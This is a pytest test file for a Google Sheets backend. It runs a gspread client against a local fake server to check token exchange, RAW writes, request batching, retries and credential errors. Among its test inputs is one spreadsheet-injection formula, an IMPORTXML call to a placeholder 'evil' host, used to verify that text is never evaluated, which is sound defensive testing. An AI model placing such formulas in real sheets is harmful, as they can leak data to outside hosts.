"""GoogleBackend through gspread's real HTTP client, over HTTP, against the loopback server.

The token exchange (a signed JWT to ``token_uri``) and every Sheets call really happen; only the
far end is local (see ``gsheets_server``). Sleeps between retries go to a fake clock.
"""

from __future__ import annotations

import json
import re

import pytest
from gsheets_server import Fault, SheetsServer

from automation.errors import (
    ConfigError,
    GoogleAccessError,
    GoogleAuthError,
    GoogleError,
    GoogleNotFoundError,
    GoogleUnavailableError,
    TabNotFoundError,
)
from automation.sheets.base import CellWrite, Dropdown, HeaderStyle
from automation.sheets.google import GoogleBackend, load_credentials

KEY = "1MasterTestKey_abcdefghij"
EMAIL = "onemarket-bot@test-project.iam.gserviceaccount.com"
SHEETS_KINDS = (
    "spreadsheets.get",
    "values.batchGet",
    "values.batchUpdate",
    "values.append",
    "spreadsheets.batchUpdate",
)
MASTER = {
    "참여신청": [["신청ID", "기관명", "연락처"], ["A-1", "수원상사", "010-1234-5678"]],
    "시장": [["시장코드", "시장명"], ["M1", "못골시장"]],
    "매칭": [["매칭ID", "상태"]],
    "작업기록": [],
}


def options(server: SheetsServer, kind: str) -> list[str]:
    """valueInputOption of every request of ``kind`` the server received."""
    out = []
    for e in server.requests(kind):
        out += e.query.get("valueInputOption", [])
        if isinstance(e.body, dict) and "valueInputOption" in e.body:
            out.append(e.body["valueInputOption"])
    return out


# -- round trip -------------------------------------------------------------------------------


def test_round_trip_through_real_token_exchange(make_google_backend, gsheets):
    b = make_google_backend(MASTER)
    assert b.list_tabs() == ["참여신청", "시장", "매칭", "작업기록"]
    tabs = b.read(["참여신청", "매칭"])
    assert tabs["참여신청"].values == MASTER["참여신청"]
    assert tabs["매칭"].header == ["매칭ID", "상태"]
    b.write({"매칭": [CellWrite(2, 1, "M-1"), CellWrite(2, 2, "제안")]})
    b.append("매칭", [["M-2", "확정"], ["M-3"]])
    assert gsheets.values(KEY, "매칭") == [["매칭ID", "상태"], ["M-1", "제안"], ["M-2", "확정"], ["M-3"]]
    assert b.read(["매칭"])["매칭"].values == gsheets.values(KEY, "매칭")
    # one token for the whole session, from the loopback token_uri, spreadsheets scope only
    assert b.token_requests == 1 and gsheets.count("token") == 1
    claims = gsheets.token_claims[0]
    assert claims["iss"] == EMAIL and claims["aud"] == "https://oauth2.googleapis.com/token"
    assert claims["scope"] == "https://www.googleapis.com/auth/spreadsheets"
    assert b.requests == gsheets.count()  # every Sheets attempt counted, tokens excluded


TEXTS = [
    ("phone-leading-zero", "01012345678"),
    ("thousands", "1,000"),
    ("formula", "=1+1"),
    ("importxml", '=IMPORTXML("http://evil","//a")'),
    ("apostrophe", "'quoted"),
    ("exponent", "1e5"),
    ("bool", "TRUE"),
    ("date", "2024-05-02"),
    ("zero-padded", "0012"),
    ("spaces", "  가 나  "),
    ("nan", "nan"),
    ("newline", "줄1\n줄2"),
    ("brn", "116-82-00276"),
]


@pytest.mark.parametrize("text", [t for _, t in TEXTS], ids=[i for i, _ in TEXTS])
def test_text_is_never_numericised_or_evaluated(make_google_backend, gsheets, text):
    b = make_google_backend({"탭": [["머리글", "둘"]]})
    b.write({"탭": [CellWrite(2, 1, text)]})
    b.append("탭", [[text, text]])
    assert gsheets.values(KEY, "탭")[1:] == [[text], [text, text]]
    assert b.read(["탭"])["탭"].values[1:] == [[text], [text, text]]
    assert options(gsheets, "values.batchUpdate") == ["RAW"]
    assert options(gsheets, "values.append") == ["RAW"]
    assert gsheets.requests("values.append")[0].query["insertDataOption"] == ["INSERT_ROWS"]
    assert not gsheets.tab(KEY, "탭").formulas


TITLES = [
    ("korean", "참여신청"),
    ("apostrophe", "It's 탭"),
    ("space-bang", "A! B"),
    ("looks-like-a1", "A1"),
    ("double-apostrophe", "''"),
]


@pytest.mark.parametrize("title", [t for _, t in TITLES], ids=[i for i, _ in TITLES])
def test_tab_titles_are_quoted(make_google_backend, gsheets, title):
    b = make_google_backend({"첫탭": [["x"]], title: [["h"], ["v"]]})
    assert b.read([title])[title].values == [["h"], ["v"]]
    b.write({title: [CellWrite(2, 2, "w")]})
    assert gsheets.values(KEY, title) == [["h"], ["v", "w"]]
    sent = gsheets.requests("values.batchGet")[0].query["ranges"]
    assert sent == ["'" + title.replace("'", "''") + "'"]


def test_values_come_back_as_str_and_trimmed(make_google_backend):
    b = make_google_backend({"탭": [["a", "", ""], [], ["", "b"], ["", ""], []]})
    raw = b.read(["탭"])["탭"]
    assert raw.values == [["a"], [], ["", "b"]]
    assert all(isinstance(c, str) for row in raw.values for c in row)


def test_merged_rows_come_from_cached_metadata(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"], ["1"], ["2"], ["3"]]})
    gsheets.tab(KEY, "탭").merges.append(
        {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 2}
    )
    assert b.read(["탭"])["탭"].merged_rows == frozenset({2, 3})
    b.read(["탭"])
    assert gsheets.count("spreadsheets.get") == 1
    assert gsheets.requests("spreadsheets.get")[0].query["fields"] == ["sheets(properties,merges,protectedRanges)"]


def test_staff_edit_between_requests_is_seen_by_next_read(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"], ["old"]]})
    assert b.read(["탭"])["탭"].values[1] == ["old"]
    gsheets.on_next("values.batchGet", lambda s: s.set_values(KEY, "탭", [["h"], ["edited"]]))
    assert b.read(["탭"])["탭"].values[1] == ["edited"]


# -- request budget ---------------------------------------------------------------------------


def test_read_of_four_tabs_is_one_batch_get(make_google_backend, gsheets):
    b = make_google_backend(MASTER)
    b.read(list(MASTER))
    b.read(list(MASTER))
    assert gsheets.count("values.batchGet") == 2
    assert gsheets.count("spreadsheets.get") == 1  # metadata cached per backend
    assert len(gsheets.requests("values.batchGet")[0].query["ranges"]) == 4
    assert b.requests == 3


@pytest.mark.parametrize("cells", [10, 10_000], ids=["10-cells", "10000-cells"])
def test_write_is_one_batch_update(make_google_backend, gsheets, cells):
    b = make_google_backend({"탭": [["h"]]})
    cols = 25  # 10,000 cells = 400 rows x 25 columns, inside the default 1000 x 26 grid
    b.write({"탭": [CellWrite(2 + i // cols, 1 + i % cols, f"v{i}") for i in range(cells)]})
    assert gsheets.count("values.batchUpdate") == 1 and gsheets.count() == 2  # + metadata
    values = gsheets.values(KEY, "탭")
    assert sum(len(r) for r in values[1:]) == cells and values[-1][-1] == f"v{cells - 1}"
    # adjacent cells of a row travel as one range
    assert len(gsheets.requests("values.batchUpdate")[0].body["data"]) == max(1, cells // cols)


def test_write_over_two_megabytes_is_chunked(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    big = "가" * 100  # 600 bytes as escaped JSON
    b.write({"탭": [CellWrite(r, 1, big) for r in range(2, 5002)]})
    sizes = [len(json.dumps(e.body)) for e in gsheets.requests("values.batchUpdate")]
    assert len(sizes) == 2 and max(sizes) <= 2_000_100
    assert len(gsheets.values(KEY, "탭")) == 5001


def test_grid_grows_before_writing_outside_it(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    b.write({"탭": [CellWrite(1, 1, "h")]})
    b.write({"탭": [CellWrite(1500, 30, "far")]})
    tab = gsheets.tab(KEY, "탭")
    assert (tab.row_count, tab.col_count) == (1500, 30)
    assert gsheets.values(KEY, "탭")[1499][29] == "far"
    grow = gsheets.requests("spreadsheets.batchUpdate")
    assert len(grow) == 1 and [next(iter(r)) for r in grow[0].body["requests"]] == [
        "appendDimension",
        "appendDimension",
    ]
    assert gsheets.count("spreadsheets.get") == 2  # looked again before growing
    b.append("탭", [["x"] * 40])  # rows grow by themselves, columns do not
    assert tab.col_count == 40 and gsheets.values(KEY, "탭")[-1] == ["x"] * 40


def test_without_growth_google_refuses_outside_the_grid(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    b.list_tabs()
    gsheets.tab(KEY, "탭").col_count = 3  # shrunk by a person after our metadata was cached
    with pytest.raises(GoogleError, match="exceeds grid limits"):
        b.write({"탭": [CellWrite(1, 5, "x")]})


def test_missing_tab_raises_before_any_values_request(make_google_backend, gsheets):
    b = make_google_backend({"참여신청": [["h"]]})
    with pytest.raises(TabNotFoundError, match=r"'매칭' 탭이 없습니다.*onemarket init"):
        b.read(["참여신청", "매칭"])
    with pytest.raises(TabNotFoundError):
        b.write({"매칭": [CellWrite(1, 1, "x")]})
    assert gsheets.count("values.batchGet") == gsheets.count("values.batchUpdate") == 0


# -- faults and retries -----------------------------------------------------------------------

RECOVERED = [
    ("503-json", [Fault(503)], 2),
    ("502-html", [Fault.bad_gateway_html()], 2),
    ("429-retry-after", [Fault.rate_limited(retry_after=3)], 2),
    ("500-then-504", [Fault(500, "Internal error"), Fault(504, "Deadline")], 3),
    ("stall-past-timeout", [Fault.stalled(1.5)], 2),
]


@pytest.mark.parametrize(("faults", "attempts"), [c[1:] for c in RECOVERED], ids=[c[0] for c in RECOVERED])
@pytest.mark.parametrize("op", ["read", "write"])
def test_transient_faults_are_retried(make_google_backend, gsheets, fake_clock, op, faults, attempts):
    b = make_google_backend({"탭": [["h"], ["1"]]})
    b.list_tabs()
    kind = "values.batchGet" if op == "read" else "values.batchUpdate"
    gsheets.script(*[Fault(f.status, f.message, f.html, f.retry_after, f.stall, kind) for f in faults])
    if op == "read":
        assert b.read(["탭"])["탭"].values == [["h"], ["1"]]
    else:
        b.write({"탭": [CellWrite(2, 1, "x"), CellWrite(2, 2, "y")]})
        assert gsheets.values(KEY, "탭") == [["h"], ["x", "y"]]
    assert gsheets.count(kind) == attempts
    assert len(fake_clock.sleeps) == attempts - 1
    if faults[0].retry_after:
        assert fake_clock.sleeps[0] >= 3


@pytest.mark.parametrize(
    "fault",
    [Fault.rate_limited(), Fault(503), Fault.bad_gateway_html(), Fault.stalled(1.0)],
    ids=["429", "503", "502-html", "stall"],
)
def test_persistent_faults_give_up_bounded_with_nothing_written(make_google_backend, gsheets, fault):
    b = make_google_backend({"탭": [["h"], ["1"]]}, timeout=0.3)
    b.list_tabs()
    gsheets.script(*[fault] * 10)
    with pytest.raises(GoogleUnavailableError) as info:
        b.write({"탭": [CellWrite(2, 1, "x")]})
    assert gsheets.count("values.batchUpdate") == 4  # max_attempts
    assert info.value.message.startswith("Google 응답 없음: ")
    assert "4회 시도" in info.value.message and "다음 실행에서 재시도합니다" in info.value.message
    if fault.status is not None:  # a stalled write may still land late; the others never do
        assert gsheets.values(KEY, "탭") == [["h"], ["1"]]


def test_retry_after_beyond_deadline_stops_at_once(make_google_backend, gsheets, fake_clock):
    b = make_google_backend({"탭": [["h"]]}, deadline=5.0)
    b.list_tabs()
    gsheets.script(Fault.rate_limited(retry_after=60))
    with pytest.raises(GoogleUnavailableError, match="1회 시도"):
        b.read(["탭"])
    assert fake_clock.sleeps == []


def test_deadline_bounds_total_time(make_google_backend, gsheets, fake_clock):
    b = make_google_backend({"탭": [["h"]]}, max_attempts=100, deadline=6.0)
    b.list_tabs()
    gsheets.script(*[Fault.rate_limited(retry_after=2)] * 100)
    with pytest.raises(GoogleUnavailableError):
        b.read(["탭"])
    assert sum(fake_clock.sleeps) < 6.0 and gsheets.count("values.batchGet") == 3


def test_stalled_append_is_not_repeated(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]}, timeout=0.3)
    b.list_tabs()
    gsheets.script(Fault(503, kind="values.append"), Fault.stalled(0.6, kind="values.append"))
    with pytest.raises(GoogleUnavailableError, match="반영되었는지 알 수 없어"):
        b.append("탭", [["new"]])
    assert gsheets.count("values.append") == 2  # a 503 is safe to repeat, a timeout is not


def test_other_4xx_is_not_retried(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    b.list_tabs()
    gsheets.script(Fault(400, "Invalid value at 'data[0].values'"))
    with pytest.raises(GoogleError, match=re.escape("Invalid value at 'data[0].values'")) as info:
        b.write({"탭": [CellWrite(1, 1, "x")]})
    assert type(info.value) is GoogleError and gsheets.count("values.batchUpdate") == 1


def test_expired_access_token_is_refreshed(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    b.read(["탭"])
    gsheets.revoke_tokens()
    assert b.read(["탭"])["탭"].values == [["h"]]
    assert b.token_requests == 2


# -- access, keys and credentials -------------------------------------------------------------


def test_not_shared_names_the_service_account(make_google_backend):
    b = make_google_backend({"탭": [["h"]]}, shared=False)
    with pytest.raises(GoogleAccessError) as info:
        b.read(["탭"])
    assert EMAIL in info.value.message and KEY in info.value.message
    assert "편집자" in info.value.message and info.value.exit_code == 2


def test_unknown_key_points_at_workbook_setting(make_google_backend):
    b = make_google_backend(key="1NoSuchSpreadsheet", create=False)
    with pytest.raises(GoogleNotFoundError) as info:
        b.list_tabs()
    assert "1NoSuchSpreadsheet" in info.value.message and "[workbook]" in info.value.message


def test_revoked_key_says_make_a_new_key(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    gsheets.revoked = True
    with pytest.raises(GoogleAuthError) as info:
        b.read(["탭"])
    assert "새 JSON 키" in info.value.message and "credentials.json" in info.value.message
    assert gsheets.count() == 0 and b.token_requests == 1


def test_wrong_private_key_is_rejected_by_token_endpoint(make_google_backend, gsheets, google_credentials):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    other = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    info = json.loads(google_credentials.read_text())
    info["private_key"] = other.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    google_credentials.write_text(json.dumps(info))
    with pytest.raises(GoogleAuthError, match="Invalid JWT Signature"):
        make_google_backend({"탭": []}).list_tabs()


BAD_FILES = [
    ("not-json", "{not json", "JSON이 아닙니다"),
    ("oauth-client", '{"installed": {"client_id": "x"}}', "서비스 계정 키가 아닙니다"),
    (
        "broken-key",
        json.dumps(
            {
                "type": "service_account",
                "client_email": EMAIL,
                "token_uri": "http://x/token",
                "private_key": "-----BEGIN PRIVATE KEY-----\nAA\n",
            }
        ),
        "손상되었거나",
    ),
]


@pytest.mark.parametrize(("text", "message"), [c[1:] for c in BAD_FILES], ids=[c[0] for c in BAD_FILES])
def test_bad_credentials_file(tmp_path, text, message):
    path = tmp_path / "credentials.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(GoogleAuthError, match=message) as info:
        load_credentials(path)
    assert "credentials.example.json" in info.value.message and info.value.exit_code == 2


@pytest.mark.parametrize("where", ["unset", "missing-file"])
def test_missing_credentials_is_a_config_error(tmp_path, where):
    with pytest.raises(ConfigError, match=re.escape("credentials.example.json")):
        load_credentials(None if where == "unset" else tmp_path / "nope.json")


def test_endpoint_trailing_slash(gsheets, google_credentials):
    gsheets.create_spreadsheet(KEY, {"탭": [["h"]]})
    b = GoogleBackend(KEY, load_credentials(google_credentials), endpoint=gsheets.url + "/")
    assert b.list_tabs() == ["탭"]
    assert gsheets.requests("spreadsheets.get")[0].path == f"/v4/spreadsheets/{KEY}"


# -- structure and formatting -----------------------------------------------------------------


def test_ensure_tabs_and_remove_blank_default(make_google_backend, gsheets):
    b = make_google_backend({"Sheet1": []})
    assert b.remove_blank_default_tab() is False  # the only tab stays
    assert b.ensure_tabs(["참여신청", "시장", "Sheet1"]) == ["참여신청", "시장"]
    assert gsheets.count("spreadsheets.batchUpdate") == 1
    assert b.list_tabs() == ["Sheet1", "참여신청", "시장"]  # cache invalidated
    assert b.ensure_tabs(["참여신청"]) == [] and gsheets.count("spreadsheets.batchUpdate") == 1
    assert b.remove_blank_default_tab() is True
    assert b.list_tabs() == ["참여신청", "시장"]


def test_default_tab_with_values_is_kept(make_google_backend):
    b = make_google_backend({"시트1": [["", "메모"]], "참여신청": []})
    assert b.remove_blank_default_tab() is False and b.list_tabs() == ["시트1", "참여신청"]


def test_style_dropdowns_and_protection_are_one_request_each(make_google_backend, gsheets):
    b = make_google_backend({"시장": [["코드", "시장명"]], "매칭": [["ID", "상태", "시장"]]})
    b.style_header("매칭", HeaderStyle(job_cols=(1,), widths={1: 10, 2: 20}, notes={1: "자동"}))
    b.set_dropdowns(
        "매칭",
        [Dropdown(2, values=("제안", "확정"), prompt="상태를 고르세요"), Dropdown(3, source=("시장", 2), strict=False)],
    )
    b.protect_columns("매칭", [1], "작업 열")
    b.protect_columns("매칭", [1, 3], "작업 열")
    assert gsheets.count("spreadsheets.batchUpdate") == 4
    tab = gsheets.tab(KEY, "매칭")
    assert tab.frozen_rows == 1 and tab.widths == {0: 80, 1: 150} and tab.notes == {(0, 0): "자동"}
    rules = {k[2]: v["rule"] for k, v in tab.validations.items()}
    assert rules[1]["condition"] == {
        "type": "ONE_OF_LIST",
        "values": [{"userEnteredValue": "제안"}, {"userEnteredValue": "확정"}],
    }
    assert rules[1]["strict"] is True and rules[1]["showCustomUi"] is True
    assert rules[2]["condition"]["values"] == [{"userEnteredValue": "='시장'!B2:B"}]
    assert rules[2]["strict"] is False
    assert [(p["range"]["startColumnIndex"], p["description"], p["editors"]["users"]) for p in tab.protected] == [
        (0, "onemarket: 작업 열", [EMAIL]),
        (2, "onemarket: 작업 열", [EMAIL]),
    ]
    assert all(p["warningOnly"] is False for p in tab.protected)


def test_token_endpoint_outage_is_retried_by_our_policy(make_google_backend, gsheets, fake_clock):
    b = make_google_backend({"탭": [["h"]]})
    gsheets.script(Fault(503, kind="token"), Fault.bad_gateway_html(kind="token"))
    assert b.list_tabs() == ["탭"]
    assert b.token_requests == 3 and len(fake_clock.sleeps) == 2


def test_protection_removed_by_a_person_is_replaced_cleanly(make_google_backend, gsheets):
    b = make_google_backend({"매칭": [["ID", "상태"]]})
    b.protect_columns("매칭", [1], "작업 열")
    gsheets.tab(KEY, "매칭").protected.clear()
    gsheets.tab(KEY, "매칭").protected.append(
        {"protectedRangeId": 7, "description": "직원 것", "range": {"sheetId": 0}}
    )
    b.protect_columns("매칭", [1], "작업 열")
    assert [p["description"] for p in gsheets.tab(KEY, "매칭").protected] == ["직원 것", "onemarket: 작업 열"]


def test_failed_batch_update_changes_nothing(make_google_backend, gsheets):
    b = make_google_backend({"탭": [["h"]]})
    b.list_tabs()
    gsheets.tab(KEY, "탭").title = "바뀐탭"  # renamed after our metadata was cached
    with pytest.raises(GoogleError, match="already exists"):
        b.ensure_tabs(["새탭", "바뀐탭"])
    assert [t.title for t in gsheets.books[KEY].tabs] == ["바뀐탭"]


def test_open_backend_from_onemarket_toml(google_onemarket_config, gsheets):
    from automation.sheets import open_backend

    b = open_backend(google_onemarket_config, "outcomes")
    assert isinstance(b, GoogleBackend) and b.key == "1OutcomesTestKey_abcdefgh"
    assert b.ensure_tabs(["성과보고"]) == ["성과보고"] and b.remove_blank_default_tab()
    assert [t.title for t in gsheets.books[b.key].tabs] == ["성과보고"]
